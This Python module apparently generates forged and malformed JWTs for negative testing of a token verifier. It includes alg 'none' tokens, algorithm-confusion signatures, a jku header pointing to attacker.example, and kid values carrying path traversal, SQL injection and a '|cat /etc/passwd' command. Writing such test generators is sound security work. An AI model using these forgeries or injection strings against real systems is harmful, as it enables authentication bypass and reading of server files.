"""What can be made of a good token by somebody who holds it, who holds the signing secret, or who holds neither."""

import base64
import hmac
import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any
from uuid import uuid4

import jwt
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.hazmat.primitives.asymmetric.types import PrivateKeyTypes

NONE_SPELLINGS = ("none", "None", "NONE", "nOnE")
KEY_IDS = (
    "../../../../../../dev/null",
    "/proc/sys/kernel/randomize_va_space",
    "' UNION SELECT 'secret' -- ",
    "x' OR '1'='1",
    "|cat /etc/passwd",
    "https://attacker.example/key",
    "",
)
ENLARGING = "a" * 600


@dataclass(frozen=True, kw_only=True)
class Loot:
    """What the forger has: a good token, and even what it was signed with."""

    token: str = field(repr=False)
    signing_secret: bytes = field(repr=False)

    @property
    def parts(self) -> list[str]:
        return self.token.split(".")

    @property
    def header(self) -> dict[str, Any]:
        return dict(json.loads(decode_part(self.parts[0])))

    @property
    def claims(self) -> dict[str, Any]:
        return dict(json.loads(decode_part(self.parts[1])))


def encode_part(content: bytes) -> str:
    return base64.urlsafe_b64encode(content).rstrip(b"=").decode()


def decode_part(part: str) -> bytes:
    return base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))


def join(header: dict[str, Any], claims: dict[str, Any], signature: str) -> str:
    return f"{encode_part(json.dumps(header).encode())}.{encode_part(json.dumps(claims).encode())}.{signature}"


def sign(claims: dict[str, Any], secret: bytes, **header: Any) -> str:
    """Sign with any secret, also one that a library would call too weak."""
    content = join({"alg": "HS256", "typ": "JWT"} | header, claims, "").removesuffix(".")
    return f"{content}.{encode_part(hmac.digest(secret, content.encode(), 'sha256'))}"


def forge_all(loot: Loot) -> Iterator[tuple[str, str]]:
    """Return every forgery with its name."""
    yield from edit(loot)
    yield from sign_anew(loot)
    yield from deny_signatures(loot)
    yield from confuse_algorithms(loot)
    yield from point_to_keys(loot)
    yield from respell(loot)
    yield from cut(loot)


def edit(loot: Loot) -> Iterator[tuple[str, str]]:
    """Change what the token says, and leave its signature."""
    signature = loot.parts[2]
    edits: dict[str, dict[str, Any]] = {
        "another-name": {"name": "root"},
        "another-organisation": {"org": "other", "uid": "other"},
        "another-key": {"id": str(uuid4())},
        "no-end": {"exp": 32503680000},
        "from-the-beginning": {"iat": 0},
        "more-groups": {"blueGroups": ["all", "admin"]},
    }
    for name, changes in edits.items():
        yield f"edited-{name}", join(loot.header, loot.claims | changes, signature)
    yield "edited-without-claims", join(loot.header, {}, signature)


def sign_anew(loot: Loot) -> Iterator[tuple[str, str]]:
    """Sign again: with other secrets, and with the right one, which opens nothing by itself."""
    for name, secret in {"another-secret": b"another" * 8, "an-empty-secret": b"", "a-weak-secret": b"secret"}.items():
        yield f"signed-with-{name}", sign(loot.claims, secret, kid=loot.header["kid"])
    right = loot.signing_secret
    yield "right-secret-unknown-key", sign(loot.claims | {"id": str(uuid4())}, right, kid=loot.header["kid"])
    yield "right-secret-other-claims", sign(loot.claims | {"name": "root"}, right, kid=loot.header["kid"])
    yield "right-secret-no-end", sign(loot.claims | {"exp": 32503680000}, right, kid=loot.header["kid"])
    yield "right-secret-same-claims-spelt-otherwise", sign(loot.claims, right, kid=loot.header["kid"])
    yield "right-secret-no-claims", sign({}, right, kid=loot.header["kid"])


def deny_signatures(loot: Loot) -> Iterator[tuple[str, str]]:
    """Say that there is no signature."""
    for spelling in NONE_SPELLINGS:
        header = loot.header | {"alg": spelling}
        yield f"alg-{spelling}-unsigned", join(header, loot.claims, "")
        yield f"alg-{spelling}-with-the-old-signature", join(header, loot.claims, loot.parts[2])
    yield "alg-missing", join({"typ": "JWT"}, loot.claims, "")
    yield "alg-null", join(loot.header | {"alg": None}, loot.claims, "")
    yield "alg-list", join(loot.header | {"alg": ["none"]}, loot.claims, "")


def confuse_algorithms(loot: Loot) -> Iterator[tuple[str, str]]:
    """Sign with key pairs of one's own, and take the public half for a shared secret."""
    pairs: dict[str, PrivateKeyTypes] = {
        "RS256": rsa.generate_private_key(public_exponent=65537, key_size=2048),
        "ES256": ec.generate_private_key(ec.SECP256R1()),
    }
    for algorithm, pair in pairs.items():
        private = pair.private_bytes(
            serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
        )
        public = pair.public_key().public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        )
        yield f"{algorithm}-with-a-key-of-ones-own", jwt.encode(loot.claims, private.decode(), algorithm=algorithm)
        yield f"{algorithm}-public-key-as-secret", sign(loot.claims, public)
        yield f"{algorithm}-said-of-HMAC", sign(loot.claims, public, alg=algorithm)


def point_to_keys(loot: Loot) -> Iterator[tuple[str, str]]:
    """Tell in the header which key to verify with."""
    secret = b"of the attacker's own choice...."
    key = {"kty": "oct", "k": encode_part(secret), "alg": "HS256"}
    yield "jwk-in-the-header", sign(loot.claims, secret, jwk=key)
    yield "jku-in-the-header", sign(loot.claims, secret, jku="https://attacker.example/jwks.json")
    yield "x5u-in-the-header", sign(loot.claims, secret, x5u="file:///etc/ssl/certs/ca-certificates.crt")
    yield "crit-in-the-header", sign(loot.claims, secret, crit=["exp"])
    for number, key_id in enumerate(KEY_IDS):
        yield f"kid-{number}-with-an-empty-secret", sign(loot.claims, b"", kid=key_id)
        yield f"kid-{number}-with-the-file-as-secret", sign(loot.claims, b"0\n", kid=key_id)


def respell(loot: Loot) -> Iterator[tuple[str, str]]:
    """Write the same bytes otherwise: a reader that is lenient would read the same token."""
    header, claims, signature = loot.parts
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    last = alphabet.index(signature[-1])
    same = f"{loot.token[:-1]}{alphabet[last ^ 1]}"
    assert decode_part(same.split(".")[2]) == decode_part(signature), "43 digits leave two bits that say nothing"
    yield "signature-with-other-unused-bits", same
    yield "padded", f"{header}=.{claims}==.{signature}="
    yield "not-url-safe", loot.token.replace("-", "+").replace("_", "/") + "+"
    yield "percent-encoded", loot.token.replace(".", "%2E")
    yield "upper-case", loot.token.upper()
    yield "swapped-case", loot.token.swapcase()
    yield "cyrillic-lookalike", loot.token.replace("e", "\N{CYRILLIC SMALL LETTER IE}", 1)
    yield "full-width", loot.token.replace("e", "\N{FULLWIDTH LATIN SMALL LETTER E}", 1)
    yield "combining-mark", loot.token + "\N{COMBINING GRAVE ACCENT}"
    yield "zero-width", "\N{ZERO WIDTH SPACE}" + loot.token
    yield "no-break-space", loot.token + "\N{NO-BREAK SPACE}"
    yield "byte-order-mark", "\N{ZERO WIDTH NO-BREAK SPACE}" + loot.token


def cut(loot: Loot) -> Iterator[tuple[str, str]]:
    """Take away, wrap and add."""
    header, claims, signature = loot.parts
    token = loot.token
    for name, text in {
        "nothing": "",
        "first-digit-missing": token[1:],
        "last-digit-missing": token[:-1],
        "half": token[: len(token) // 2],
        "no-signature": f"{header}.{claims}",
        "empty-signature": f"{header}.{claims}.",
        "signature-alone": signature,
        "claims-alone": claims,
        "dots": "..",
        "four-parts": f"{token}.{signature}",
        "twice": token + token,
        "quoted": f'"{token}"',
        "single-quoted": f"'{token}'",
        "bearer": f"Bearer {token}",
        "api-key": f"ApiKey {token}",
        "listed": f"{token}, {token}",
        "listed-after-another": f"x,{token}",
        "space-within": f"{token[:20]} {token[20:]}",
        "tab-within": f"{token[:20]}\t{token[20:]}",
        "with-more-behind": token + ENLARGING,
        "with-more-before": ENLARGING + token,
        "star": "*",
        "null": "null",
    }.items():
        yield f"cut-{name}", text
